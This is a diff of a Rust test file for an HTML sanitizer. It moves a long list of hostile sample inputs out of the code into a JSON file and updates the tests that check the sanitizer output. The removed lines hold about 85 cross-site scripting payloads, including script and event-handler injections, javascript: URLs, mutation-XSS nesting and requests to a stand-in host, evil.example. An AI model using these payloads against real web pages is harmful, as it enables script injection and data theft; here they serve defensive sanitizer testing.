@@ -13,98 +13,12 @@ fn shown(html: &str) -> String {
     document.strip_prefix(BEGIN).unwrap().strip_suffix(END).unwrap().to_owned()
 }
 
-/// Samples that ran a script, or asked for something, somewhere.
-const HOSTILE: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<script src=//evil.example/x.js></script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<SCRIPT/x>alert(1)</SCRIPT >",
-    "<script>alert(1)",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror\n=\n'alert(1)'>",
-    "<img/src=x/onerror=alert(1)//>",
-    "<img src=\"x` `<script>alert(1)</script>\"` `>",
-    "<img src='http://evil.example/track.gif'>",
-    "<img srcset='http://evil.example/a 1x' src=http://evil.example/b>",
-    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
-    "<img src=\"data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
-    "<img src=cid:drawing@mail>",
-    "<img alt='\"><script>alert(1)</script>' src=x>",
-    "<img alt='`><img src=x onerror=alert(1)>'>",
-    "<body onload=alert(1) background=http://evil.example/b.png>x",
-    "<div onmouseover=alert(1) ONCLICK='alert(1)' id=a class=b name=c>x</div>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
-    "<svg/><img src=x onerror=alert(1)>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
-    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
-    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
-    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<select><style></select><img src=x onerror=alert(1)></style>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!-- --!><img src=x onerror=alert(1)>-->",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
-    "<meta http-equiv=set-cookie content='a=b'>",
-    "<base href=http://evil.example/><a href=x>x</a>",
-    "<link rel=stylesheet href=http://evil.example/x.css>",
-    "<link rel=dns-prefetch href=//evil.example>",
-    "<style>@import url(http://evil.example/x.css);*{background:url(http://evil.example/y)}</style>",
-    "<form action=http://evil.example/><input name=password><button formaction=javascript:alert(1)>Go</button></form>",
-    "<isindex action=javascript:alert(1) type=submit>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
-    "<embed src=http://evil.example/x.swf>",
-    "<applet code=x></applet><frameset><frame src=javascript:alert(1)></frameset>",
-    "<video src=http://evil.example/v onerror=alert(1)><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1) autoplay>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<dialog open onclose=alert(1)>x</dialog>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
-    "<a href='&#1;javascript:alert(1)'>x</a>",
-    "<a href=JaVaScRiPt&colon;alert(1)>x</a>",
-    "<a href=vbscript:alert(1)>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
-    "<a href='https://evil.example/\"><script>alert(1)</script>'>x</a>",
-    "<a href='https://evil.example/' target=_top ping=http://evil.example/p>x</a>",
-    "<a href=x style='position:fixed;top:0;left:0;width:100%;height:100%'>x</a>",
-    "<div style=\"background:url(http://evil.example/x)\">x</div>",
-    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
-    "<div style=\"background:u\\72l(http://evil.example/x)\">x</div>",
-    "<div style=\"background:ur/**/l(http://evil.example/x)\">x</div>",
-    "<div style=\"width:expression(alert(1))\">x</div>",
-    "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
-    "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#x)\">x</div>",
-    "<div style=\"color:red;background:image-set('http://evil.example/x' 1x)\">x</div>",
-    "<div style=\"content:attr(x);color:var(--x, url(http://evil.example))\">x</div>",
-    "<div style='color:red\"><script>alert(1)</script>'>x</div>",
-    "<div style=\"font-family:'\"><img src=x onerror=alert(1)>'\">x</div>",
-    "<table background=http://evil.example/x><td background=http://evil.example/y>x</table>",
-    "<p lang='\"><script>alert(1)</script>' dir=\"x\" onx=y>x</p>",
-    "<div a='\"' b=\"'<img src=x onerror=alert(1)>\">x</div>",
-    "<div \"<img src=x onerror=alert(1)>\">x</div>",
-    "<x onclick=alert(1) style=x>x</x>",
-    "<<img src=x onerror=alert(1)//",
-    "<img src=x onerror=alert(1)//",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<u title='&lt;script&gt;'>x</u>",
-    "\u{0}<im\u{0}g src=x onerror=alert(1)>",
-    "<a href='https://a.example'><table><td><a href='javascript:alert(1)'><img src=x onerror=alert(1)></a></table></a>",
-];
+/// Samples that ran a script, or asked for something, somewhere. `web/e2e` shows the same in a browser.
+fn hostile() -> Vec<String> {
+    let samples: Vec<String> = serde_json::from_str(include_str!("hostile.json")).unwrap();
+    assert!(samples.len() >= 120);
+    samples
+}
 
 /// Every tag and attribute of markup that is known to be well formed.
 fn tags(html: &str) -> Vec<(String, Vec<String>)> {
@@ -126,7 +40,7 @@ fn tags(html: &str) -> Vec<(String, Vec<String>)> {
 #[test]
 fn nothing_hostile_is_left_of_any_sample() {
     let known: Vec<_> = writer::ATTRIBUTES.iter().copied().chain(["style", "src", "alt", "title"]).collect();
-    for sample in HOSTILE {
+    for sample in &hostile() {
         let first = writer::write(sample, &Pictures::default()).html;
         for html in [first, shown(sample), shown(&format!("<p>before {sample} after</p><b>end</b>"))] {
             for (name, attributes) in tags(&html) {
@@ -143,12 +57,11 @@ fn nothing_hostile_is_left_of_any_sample() {
             assert!(!html.contains("href="), "{sample}\n{html}");
         }
     }
-    assert!(HOSTILE.len() > 80);
 }
 
 #[test]
 fn the_second_pass_would_do_without_the_first() {
-    for sample in HOSTILE {
+    for sample in &hostile() {
         let html = SECOND.clean(sample).to_string();
         for (name, attributes) in tags(&html) {
             assert!(writer::ELEMENTS.contains(&name.as_str()), "{sample}\n{html}");
